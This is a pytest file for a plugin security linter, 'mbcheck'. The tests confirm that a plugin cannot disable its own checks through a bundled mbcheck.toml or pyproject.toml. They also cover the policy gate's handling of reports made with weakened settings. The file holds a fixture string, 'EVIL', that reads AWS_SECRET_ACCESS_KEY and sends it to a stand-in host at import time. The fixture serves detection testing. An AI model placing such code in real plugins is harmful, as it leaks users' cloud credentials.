"""A plugin cannot configure its own check: config comes from the current directory or --config.

Each test performs the attack as a plugin author would: the plugin ships an
``mbcheck.toml`` (or ``[tool.mbcheck]``) that switches its checks off, or a
config sits in a directory above it, and the plugin is linted from elsewhere
and verified.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from helpers import MINIMAL_INIT, write_plugin
from mbcheck.api import check, report_json
from mbcheck.cli import app
from mbcheck.gate import Policy, admit, load_policy
from mbcheck.rules.base import EXAMPLE_MANIFEST

runner = CliRunner()

#: reads a secret from the environment and sends it at import time
EVIL = (
    "import os\nimport urllib.request\n\n"
    'TOKEN = os.environ.get("AWS_SECRET_ACCESS_KEY", "")\n'
    'urllib.request.urlopen("https://collector.example.net/?t=" + TOKEN, timeout=5)\n'
)


def evil_plugin(base: Path, name: str = "example", *, declared: bool = True, **extra: str) -> Path:
    """A plugin whose ``evil.py`` phones home at import time (MB330, an error).

    With ``declared`` its manifest declares the permissions the code uses, so
    only its findings (not its permissions) stand between it and the default policy.
    """
    manifest = EXAMPLE_MANIFEST.replace("name: example", f"name: {name}")
    if declared:
        manifest += "permissions: [env, network]\n"
    files = {"plugin.yaml": manifest, "__init__.py": MINIMAL_INIT + "\nfrom . import evil\n", "evil.py": EVIL, **extra}
    return write_plugin(base, files, name)


def lint_json(monkeypatch: pytest.MonkeyPatch, cwd: Path, out: Path, *args: str) -> dict[str, Any]:
    """``mbcheck lint ARGS -f json`` run from ``cwd``; the report."""
    cwd.mkdir(parents=True, exist_ok=True)
    monkeypatch.chdir(cwd)
    result = runner.invoke(app, ["lint", *args, "-f", "json", "-o", str(out), "--jobs", "1"])
    assert result.exit_code in (0, 1), result.output
    data: dict[str, Any] = json.loads(out.read_text(encoding="utf-8"))
    return data


def verify(plugin: Path, report: Path, policy: Path | None = None) -> tuple[int, str]:
    args = ["verify", str(plugin), str(report)] + (["--policy", str(policy)] if policy else [])
    result = runner.invoke(app, args)
    return result.exit_code, result.output


def rules_of(data: dict[str, Any], plugin: int = 0) -> list[tuple[str, str]]:
    return [(f["rule"], f["path"]) for f in data["plugins"][plugin]["findings"]]


EVIL_CONFIGS = {
    "ignore-all": 'ignore = ["ALL"]\n',
    "exclude": 'exclude = ["evil.py"]\n',
    "plugin-ignore": '[plugins.example]\nignore = ["MB", "B"]\n',
    "max-file-size": "max-file-size = 60\n",
    "severity": 'severity = {MB330 = "info", B310 = "info"}\n',
    "per-file-ignores": '[per-file-ignores]\n"*.py" = ["MB", "B"]\n',
    "select": 'select = ["MB1"]\n',
}


@pytest.mark.parametrize("toml", EVIL_CONFIGS.values(), ids=EVIL_CONFIGS.keys())
def test_a_plugin_s_own_mbcheck_toml_switches_nothing_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, toml: str) -> None:
    plugin = evil_plugin(tmp_path / "plugins", **{"mbcheck.toml": toml})
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin), "--no-cache")
    found = rules_of(data)
    assert ("MB330", "evil.py") in found and ("B310", "evil.py") in found
    assert not any(rule == "MB003" for rule, _ in found)  # max-file-size = 60 did not apply
    unused = [f for f in data["plugins"][0]["findings"] if f["rule"] == "MB012"]
    assert [(f["path"], f["line"], f["severity"], f["category"]) for f in unused] == [("mbcheck.toml", 1, "info", "config")]
    assert "mbcheck.toml inside the plugin was not used" in unused[0]["message"]
    assert data["tool"]["config"] == {"source": None, "isolated": False}
    assert data["tool"]["settings"]["ignore"] == [] and data["tool"]["settings"]["exclude"] == []
    code, output = verify(plugin, out)
    assert code == 1 and "MB330 at evil.py:5" in output, output


def test_a_plugin_s_pyproject_table_switches_nothing_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pyproject = '[tool.ruff]\nline-length = 100\n\n[tool.mbcheck]\nignore = ["ALL"]\n'
    plugin = evil_plugin(tmp_path / "plugins", **{"pyproject.toml": pyproject})
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin), "--no-cache")
    assert ("MB330", "evil.py") in rules_of(data)
    unused = [f for f in data["plugins"][0]["findings"] if f["rule"] == "MB012"]
    assert [(f["path"], f["line"]) for f in unused] == [("pyproject.toml", 4)]
    assert "[tool.mbcheck] table of pyproject.toml" in unused[0]["message"]
    assert verify(plugin, out)[0] == 1


def test_a_plugin_s_cache_dir_is_never_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "planted-cache"
    plugin = evil_plugin(tmp_path / "plugins", **{"mbcheck.toml": f'cache-dir = "{target.as_posix()}"\n'})
    out = tmp_path / "report.json"
    for _ in range(2):  # a cold run and a cached one, both with the cache on
        data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin))
        assert ("MB330", "evil.py") in rules_of(data)
    assert not target.exists()


def test_an_archive_s_config_is_reported_and_not_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import zipfile

    source = evil_plugin(tmp_path / "src", **{"mbcheck.toml": 'ignore = ["ALL"]\n'})
    archive = tmp_path / "example.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(source.rglob("*")):
            zf.write(path, f"example/{path.relative_to(source).as_posix()}")
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(archive), "--no-cache")
    assert ("MB330", "evil.py") in rules_of(data) and ("MB012", "mbcheck.toml") in rules_of(data)
    assert verify(archive, out)[0] == 1


def test_a_config_above_the_plugin_but_not_above_the_cwd_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "downloads" / "mbcheck.toml").parent.mkdir(parents=True)
    (tmp_path / "downloads" / "mbcheck.toml").write_text('ignore = ["ALL"]\nexclude = ["evil.py"]\n', encoding="utf-8")
    plugin = evil_plugin(tmp_path / "downloads" / "plugins")
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin), "--no-cache")
    assert ("MB330", "evil.py") in rules_of(data)
    assert not any(rule == "MB012" for rule, _ in rules_of(data))  # not inside the plugin
    assert data["tool"]["config"]["source"] is None
    assert verify(plugin, out)[0] == 1


def test_one_path_s_config_does_not_govern_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = evil_plugin(tmp_path / "plugins", "first", **{"mbcheck.toml": 'ignore = ["ALL"]\n'})
    second = evil_plugin(tmp_path / "plugins", "second")
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(first), str(second), "--no-cache")
    by_name = {p["name"]: [(f["rule"], f["path"]) for f in p["findings"]] for p in data["plugins"]}
    assert ("MB330", "evil.py") in by_name["second"] and ("MB330", "evil.py") in by_name["first"]
    assert ("MB012", "mbcheck.toml") in by_name["first"] and not any(r == "MB012" for r, _ in by_name["second"])
    assert verify(second, out)[0] == 1 and verify(first, out)[0] == 1


def test_the_author_s_own_config_applies_inside_their_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """From the plugin's own directory its config is the current directory's: the author's
    tool. A host policy that requires a complete check refuses that report, naming why."""
    plugin = evil_plugin(tmp_path / "plugins", **{"mbcheck.toml": 'ignore = ["ALL"]\n'})
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, plugin, out, ".", "--no-cache")
    assert rules_of(data) == []  # neither MB330 nor MB012: the config was used
    assert data["tool"]["config"] == {"source": str((plugin / "mbcheck.toml").resolve()), "isolated": False}
    assert data["tool"]["settings"]["ignore"] == ["ALL"]
    assert verify(plugin, out)[0] == 0  # the default policy trusts whoever made the report
    policy = tmp_path / "policy.toml"
    policy.write_text("complete = true\n", encoding="utf-8")
    code, output = verify(plugin, out, policy)
    assert code == 1
    assert "the report was made with rules ignored (ignore: ALL); the policy requires a complete check (complete = true)" in output


def test_a_cached_report_is_not_reused_across_config_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same plugin path and effective settings, from the plugin's own config and then
    from none (--isolated): the second run still reports the unused config and its source."""
    plugin = evil_plugin(tmp_path / "plugins", **{"mbcheck.toml": "jobs = 1\n", "sub/data.txt": "x\n"})
    monkeypatch.setenv("MBCHECK_CACHE_DIR", str(tmp_path / "cache"))
    used = lint_json(monkeypatch, plugin / "sub", tmp_path / "used.json", "..")
    isolated = lint_json(monkeypatch, plugin / "sub", tmp_path / "isolated.json", "..", "--isolated")
    assert used["tool"]["config_digest"] == isolated["tool"]["config_digest"]
    assert used["plugins"][0]["path"] == isolated["plugins"][0]["path"]
    assert not any(rule == "MB012" for rule, _ in rules_of(used))
    assert ("MB012", "mbcheck.toml") in rules_of(isolated)
    assert isolated["tool"]["config"] == {"source": None, "isolated": True}
    # two config files with the same settings: each report names its own
    for name in ("one.toml", "two.toml"):
        (tmp_path / name).write_text("jobs = 1\n", encoding="utf-8")
        data = lint_json(monkeypatch, plugin / "sub", tmp_path / "report.json", "..", "--config", str(tmp_path / name))
        assert data["tool"]["config"]["source"] == str((tmp_path / name).resolve())


def test_isolated_reads_no_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin = evil_plugin(tmp_path / "plugins")
    cwd = tmp_path / "repo"
    cwd.mkdir()
    (cwd / "pyproject.toml").write_text('[tool.mbcheck]\nignore = ["ALL"]\n', encoding="utf-8")
    out = tmp_path / "report.json"
    assert rules_of(lint_json(monkeypatch, cwd, out, str(plugin), "--no-cache")) == []
    data = lint_json(monkeypatch, cwd, out, str(plugin), "--no-cache", "--isolated")
    assert ("MB330", "evil.py") in rules_of(data)
    assert data["tool"]["config"] == {"source": None, "isolated": True}
    result = runner.invoke(app, ["lint", str(plugin), "--isolated", "--config", str(cwd / "pyproject.toml")])
    assert result.exit_code == 2 and "--config cannot be used with --isolated" in result.output
    baseline = tmp_path / "baseline.json"
    result = runner.invoke(app, ["baseline", str(plugin), "--isolated", "--no-cache", "--jobs", "1", "-o", str(baseline)])
    assert result.exit_code == 0, result.output
    assert "MB330" in baseline.read_text(encoding="utf-8")
    result = runner.invoke(app, ["baseline", str(plugin), "--no-cache", "--jobs", "1", "-o", str(baseline)])
    assert result.exit_code == 0 and "MB330" not in baseline.read_text(encoding="utf-8")


def test_the_report_records_its_config_source_and_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin = evil_plugin(tmp_path / "plugins")
    config = tmp_path / "host" / "pyproject.toml"
    config.parent.mkdir()
    config.write_text(
        '[tool.mbcheck]\nignore = ["B3"]\nexclude = ["docs/"]\nmax-file-seconds = 0\nseverity = {MB114 = "error"}\n'
        '[tool.mbcheck.per-file-ignores]\n"tests/*.py" = ["MB3"]\n[tool.mbcheck.plugins.example]\nignore = ["MB5"]\n',
        encoding="utf-8",
    )
    out = tmp_path / "report.json"
    data = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin), "--no-cache", "--config", str(config),
                     "--ignore", "MB2", "--fail-on", "warning")
    tool = data["tool"]
    assert tool["config"] == {"source": str(config.resolve()), "isolated": False}
    assert tool["settings"] == {
        "select": ["ALL"], "ignore": ["B3", "MB2"], "severity": {"MB114": "error"},
        "per_file_ignores": {"tests/*.py": ["MB3"]}, "fail_on": "warning", "exclude": ["docs/"],
        "host_profile": "milkbottle-5.0.0-fb2eb2c", "max_file_size": 1_000_000, "max_file_seconds": 0,
        "max_file_memory": 1024, "plugins": {"example": {"ignore": ["MB5"]}}, "advisories": None,
    }
    # config_digest is the sha256 of exactly these settings, as canonical JSON
    canonical = json.dumps(tool["settings"], sort_keys=True, separators=(",", ":")).encode()
    assert tool["config_digest"] == f"sha256:{hashlib.sha256(canonical).hexdigest()}"
    # found from the current directory: its absolute path
    data = lint_json(monkeypatch, config.parent / "sub", out, str(plugin), "--no-cache")
    assert data["tool"]["config"]["source"] == str(config.resolve())


def test_sarif_records_the_config_source_and_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin = evil_plugin(tmp_path / "plugins")
    config = tmp_path / "mbcheck.toml"
    config.write_text('ignore = ["B"]\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, ["lint", str(plugin), "-f", "sarif", "--no-cache", "--jobs", "1"])
    assert result.exit_code == 1, result.output
    invocation = json.loads(result.output)["runs"][0]["invocations"][0]
    assert invocation["properties"]["config"] == {"source": str(config.resolve()), "isolated": False}
    assert invocation["properties"]["settings"]["ignore"] == ["B"]
    assert invocation["executionSuccessful"] is True


def test_api_check_reads_no_config_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin = evil_plugin(tmp_path / "plugins", **{"mbcheck.toml": 'ignore = ["ALL"]\n'})
    (tmp_path / "mbcheck.toml").write_text('ignore = ["ALL"]\nexclude = ["evil.py"]\n', encoding="utf-8")
    for cwd in (tmp_path, plugin):
        monkeypatch.chdir(cwd)
        data = report_json(check(plugin, jobs=1, use_cache=False))
        assert ("MB330", "evil.py") in rules_of(data) and ("MB012", "mbcheck.toml") in rules_of(data)
        assert data["tool"]["config"] == {"source": None, "isolated": False}
        assert not admit(plugin, data).allowed


# ------------------------------------------------------------------ policies: complete = true


def _report(plugin: Path, config: dict[str, Any] | None = None) -> dict[str, Any]:
    return report_json(check(plugin, config or {}, jobs=1, use_cache=False))


@pytest.fixture
def clean(tmp_path: Path) -> Path:
    return write_plugin(tmp_path / "plugins", {"plugin.yaml": EXAMPLE_MANIFEST, "__init__.py": MINIMAL_INIT})


COMPLETE = "the policy requires a complete check (complete = true)"


def test_a_complete_report_is_admitted(clean: Path) -> None:
    data = _report(clean, {"severity": {"MB114": "error"}, "max-file-seconds": 0, "max-file-size": 2_000_000,
                           "select": ["MB", "B"], "fail-on": "warning"})
    decision = admit(clean, data, Policy(complete=True))
    assert decision.allowed, decision.reasons


@pytest.mark.parametrize(
    ("config", "reason"),
    [
        ({"select": ["MB1", "MB2"]}, "only some rules selected (select: MB1, MB2)"),
        ({"select": ["MB"]}, "only some rules selected (select: MB)"),
        ({"ignore": ["MB3"]}, "rules ignored (ignore: MB3)"),
        ({"per-file-ignores": {"evil.py": ["MB330"]}}, "rules ignored in some files (per-file-ignores: 'evil.py' = MB330)"),
        ({"plugins": {"example": {"ignore": ["MB3"]}}}, "rules ignored for a plugin (plugins.example.ignore: MB3)"),
        ({"plugins": {"example": {"ignore-unused-dependencies": ["uvloop"]}}},
         "unused dependencies waived for a plugin (plugins.example.ignore-unused-dependencies: uvloop)"),
        ({"severity": {"MB330": "info"}}, "severities lowered (severity: MB330 from error to info)"),
        ({"severity": {"MB316": "info"}}, "severities lowered (severity: MB316 from warning to info)"),
        ({"severity": {"MB310": "warning"}}, "severities lowered (severity: MB310 from error to warning)"),
        ({"exclude": ["evil.py"]}, "files excluded from analysis (exclude: evil.py)"),
        ({"max-file-size": 60}, "a lower limit (max-file-size: 60; the default is 1000000)"),
        ({"max-file-seconds": 0.5}, "a lower limit (max-file-seconds: 0.5; the default is 60)"),
        ({"max-file-memory": 10}, "a lower limit (max-file-memory: 10; the default is 1024)"),
    ],
)
def test_complete_refuses_each_weakening_by_name(clean: Path, config: dict[str, Any], reason: str) -> None:
    data = _report(clean, config)
    # the default policy does not ask how the report was made (a file left unanalysed by a
    # lower limit is refused on its own account: allow-unanalysed)
    assert admit(clean, data, Policy(allow_unanalysed=True)).allowed
    decision = admit(clean, data, Policy(complete=True, allow_unanalysed=True))
    assert decision.reasons == (f"the report was made with {reason}; {COMPLETE}",)


def test_complete_names_every_weakening(clean: Path) -> None:
    data = _report(clean, {"ignore": ["B"], "exclude": ["x.py"], "severity": {"MB330": "warning"}})
    reasons = admit(clean, data, Policy(complete=True)).reasons
    assert [r.split(" (", 1)[0] for r in reasons] == [
        "the report was made with rules ignored", "the report was made with severities lowered",
        "the report was made with files excluded from analysis",
    ]


def test_complete_refuses_a_report_without_its_settings(clean: Path) -> None:
    data = _report(clean)
    del data["tool"]["settings"]
    assert admit(clean, data).allowed
    assert admit(clean, data, Policy(complete=True)).reasons == (
        f"the report does not record the settings it was made with; {COMPLETE}",
    )


def test_complete_refuses_settings_that_do_not_match_the_config_digest(clean: Path) -> None:
    """A report edited to hide its ignores (settings rewritten, digest left) is refused."""
    data = _report(clean, {"ignore": ["MB3"]})
    data["tool"]["settings"]["ignore"] = []
    reasons = admit(clean, data, Policy(complete=True)).reasons
    assert len(reasons) == 1 and "do not match its config_digest" in reasons[0]


def test_complete_is_a_policy_key(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("complete: true\n", encoding="utf-8")
    assert load_policy(policy).complete
    assert not Policy().complete


def test_the_completeness_check_loads_no_parser(clean: Path, tmp_path: Path) -> None:
    """The gate judges a report's settings from the shipped catalog: neither libcst nor the rule modules."""
    import subprocess
    import sys

    from helpers import ROOT

    report = tmp_path / "report.json"
    data = _report(clean, {"severity": {"MB330": "info", "MB114": "error"}})
    # a code no rule has (a report from another mbcheck version): a config cannot name one any more
    data["tool"]["settings"]["severity"]["MB999"] = "info"
    report.write_text(json.dumps(data))
    script = (
        "import sys\n"
        "from mbcheck.gate import Policy, admit, read_report\n"
        f"decision = admit({str(clean)!r}, read_report({str(report)!r}), Policy(complete=True))\n"
        "print(len(decision.reasons), sorted(m for m in sys.modules if m == 'libcst' or m.startswith('mbcheck.checks')))\n"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False,
                            cwd=ROOT, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"}, timeout=60)
    assert result.stdout.strip() == "1 []", result.stderr


# ------------------------------------------------------------------ facts are not side effects of rules


@pytest.mark.parametrize("policy_text", ["", 'allow-permissions = ["network"]\n'], ids=["default", "allow-network"])
def test_ignoring_rules_does_not_admit_a_plugin_the_full_report_refuses(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, policy_text: str
) -> None:
    """A plugin that reads the environment and calls the network at import time, declaring
    no permissions: reports made with --ignore MB3 or --ignore ALL refuse it like the full one."""
    plugin = evil_plugin(tmp_path / "plugins", declared=False)
    policy = tmp_path / "policy.toml"
    policy.write_text(policy_text, encoding="utf-8")
    reports = {}
    for label, args in (("full", ()), ("MB3", ("--ignore", "MB3")), ("ALL", ("--ignore", "ALL"))):
        out = tmp_path / f"{label}.json"
        reports[label] = lint_json(monkeypatch, tmp_path / "elsewhere", out, str(plugin), "--no-cache", *args)
        code, output = verify(plugin, out, policy)
        assert code == 1, (label, output)
        assert "the plugin uses permission `env` but does not declare it" in output
        assert "the plugin uses permission `network` but does not declare it" in output
    assert rules_of(reports["ALL"]) == []
    full, bare = reports["full"]["plugins"][0], reports["ALL"]["plugins"][0]
    assert full["permissions"]["inferred"] == bare["permissions"]["inferred"] == ["env", "network"]
    assert full["dependencies"] == bare["dependencies"]
    assert full["compatibility"] == bare["compatibility"]
